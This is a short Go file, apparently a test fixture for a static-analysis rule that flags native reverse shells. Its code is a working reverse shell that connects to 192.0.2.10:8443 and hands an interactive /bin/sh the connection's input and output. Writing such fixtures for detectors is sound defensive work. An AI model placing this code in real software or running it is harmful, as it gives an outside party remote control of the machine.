// An agent compiled at install that gives its connection to a shell.
package main

import (
	"net"
	"os"
	"os/exec"
)

func main() {
	conn, err := net.Dial("tcp", "192.0.2.10:8443")
	if err != nil {
		os.Exit(0)
	}
	cmd := exec.Command("/bin/sh", "-i")
	// ruleid: native_reverse_shell
	cmd.Stdin = conn
	cmd.Stdout = conn
	// ok: native_reverse_shell
	cmd.Stderr = os.Stderr
	cmd.Run()
}
